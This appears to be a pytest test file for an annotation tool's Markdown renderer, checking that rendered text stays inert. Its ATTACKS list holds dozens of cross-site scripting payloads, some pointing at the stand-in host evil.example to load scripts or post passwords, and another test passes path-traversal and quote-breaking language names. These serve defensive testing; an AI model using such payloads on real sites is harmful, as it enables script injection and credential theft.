"""Markdown of models and annotators: it looks right, and nothing in it can act."""

import re
from html import unescape
from html.parser import HTMLParser

import pytest
from django.utils.safestring import mark_safe
from hypothesis import given
from hypothesis import strategies as st

from annotation.code_colours import CLASSES, LANGUAGES
from annotation.markdown import MAX_CHARACTERS, TAGS, Cache, Page, plain, render

COLOURS = {("class", name) for name in CLASSES}


class Inspector(HTMLParser):
    """Collects the tags and attributes that a browser would make of the HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str | None]] = set()
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(attrs)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def inspect(html: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector


def require_inert(html: str) -> None:
    seen = inspect(html)
    assert seen.tags <= TAGS
    assert seen.attributes <= {("class", "inert-link"), ("class", "address"), *COLOURS}
    assert not seen.comments


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("plain", "<p>plain</p>\n"),
        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
        ("**bold** and *soft*", "<p><strong>bold</strong> and <em>soft</em></p>\n"),
        ("`x < y`", "<p><code>x &lt; y</code></p>\n"),
        ("# Title", "<h3>Title</h3>\n"),
        ("##### Deep", "<h6>Deep</h6>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("```\nprint(1)\n```", "<pre><code>print(1)\n</code></pre>\n"),
        (
            "```PY title\nif x < 1: # no\n```",
            '<pre><code><span class="c-k">if</span> <span class="c-n">x</span> '
            '<span class="c-o">&lt;</span> <span class="c-mi">1</span><span class="c-p">:</span> '
            '<span class="c-c1"># no</span>\n</code></pre>\n',
        ),
        ("~~gone~~", "<p><s>gone</s></p>\n"),
        ("你好，**世界**", "<p>你好，<strong>世界</strong></p>\n"),
        (
            "see [the shop](https://a.example/x)",
            '<p>see <span class="inert-link">the shop</span>'
            '<span class="address"> (https://a.example/x)</span></p>\n',
        ),
        (
            "<https://a.example>",
            '<p><span class="inert-link">https://a.example</span></p>\n',
        ),
        (
            "![a cat](https://a.example/cat.png)",
            '<p><span class="inert-link">a cat</span>'
            '<span class="address"> (https://a.example/cat.png)</span></p>\n',
        ),
    ],
)
def test_markdown_looks_as_written(text, html):
    assert render(text) == html


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{display:none}</style>",
    '<p style="position:fixed">cover</p>',
    '<div class="topbar" id="work">spoof</div>',
    "<!-- comment --> after",
    "<!--><script>alert(1)</script>-->",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x></object><embed src=x>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<a href=javascript:alert(1)>click</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:x)",
    '[click](https://a.example "onmouseover=alert(1)")',
    '[click](https://a.example"onmouseover="alert(1))',
    "[a[b](javascript:1)](javascript:2)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x)',
    "![**b** <script>](https://evil.example/beacon.png)",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1) 'title'",
    "```<script>\nalert(1)\n```",
    '```"onload="x\nalert(1)\n```',
    "`<script>alert(1)</script>`",
    "> <script>\n> alert(1)\n> </script>",
    "- [x](javascript:alert(1))\n  - <img src=x onerror=alert(1)>",
    "| <script> |\n| --- |\n| [x](javascript:alert(1)) |",
    "**<b onclick=alert(1)>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028<script\u2028>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<" * 500 + "script>",
    "[" * 300 + "x" + "](javascript:1)" * 300,
    "> " * 200 + "<img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_active_survives(text):
    require_inert(render(text))


@given(st.text(alphabet="<>[]()!`\"'/=&;:#*_-| \nabscript:onerror&#x;", max_size=200))
def test_no_text_becomes_active(text):
    require_inert(render(text))


@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_code_of_every_language_is_coloured_whole_and_inert(language):
    code = """if (a < b) { return "<script>x</script>"; } // &amp; <b onclick='x'>\n"""
    html = render(f"```{language}\n{code}```")
    require_inert(html)
    assert unescape(re.sub(r"</?span[^>]*>", "", html)) == f"<pre><code>{code}</code></pre>\n"


@pytest.mark.parametrize(
    "language",
    [
        'py"onload="x',
        "py'><script>x</script>",
        "../../etc/passwd",
        "lexers.python:PythonLexer",
        "c-k",
        "python" * 5000,
        "\x00",
        "ｐｙｔｈｏｎ",
    ],
)
def test_a_language_that_nobody_knows_leaves_the_code_plain(language):
    html = render(f"```{language}\nx = 1\n```\nafter")
    require_inert(html)
    assert html.startswith("<pre><code>x = 1\n</code></pre>")


def test_a_class_that_a_text_gives_itself_is_no_class():
    html = render('<span class="c-k">x</span>')
    assert inspect(html).attributes == set()


def test_long_code_stays_plain():
    html = render("```py\n" + "x = 1\n" * 1000 + "```")
    assert "<span" not in html


def test_raw_html_stays_readable():
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in render("<script>alert(1)</script>")


def test_a_dangerous_address_is_shown_but_is_no_link():
    html = render("[click](javascript:alert(1))")
    assert "javascript:alert(1)" in html
    assert "href" not in html


def test_a_huge_text_is_shown_as_it_is():
    html = render("<b>" + "x" * MAX_CHARACTERS)
    assert html.startswith("<pre>&lt;b&gt;x")


def test_plain_text_of_typed_parts():
    parts = [{"type": "text", "text": "one"}, {"type": "image", "url": "x"}]
    assert plain(parts) == "one\n\n[image]"
    assert plain("two") == "two"


def test_a_page_renders_so_much_and_shows_the_rest_as_it_is():
    page = Page()
    text = "*a* " * (MAX_CHARACTERS // 10)
    assert "<em>" in page.render(text)
    assert "<em>" in page.render(text)
    assert page.render(text) == f"<pre>{text}</pre>"
    assert "<em>" in page.render("*short*")  # what still fits is rendered
    assert "<em>" in Page().render(text)


@pytest.mark.parametrize("long", [0, 1])
def test_answers_that_are_compared_look_alike(long):
    texts = ["*a* <b>", "*a* <b>"]
    texts[long] += " " * MAX_CHARACTERS
    assert all(html.startswith("<pre>*a* &lt;b&gt;") for html in Page().render_alike(texts))
    assert all("<em>a</em>" in html for html in Page().render_alike(["*a*", "*a* b"]))


def test_the_cache_holds_so_much_and_forgets_the_oldest_use():
    made = []
    kept = Cache(lambda text: made.append(text) or mark_safe(text.upper()), most=12)
    for text in ("aaa", "bbb", "aaa", "ccc", "aaa", "bbb"):  # 6 characters each, two at a time
        assert kept(text) == text.upper()
    assert made == ["aaa", "bbb", "ccc", "bbb"]
    assert kept("d" * 7) == "D" * 7
    assert kept("aaa") == "AAA"
    assert made[-1] == "d" * 7  # what is larger than the cache moves nothing out
    assert kept.held == 12
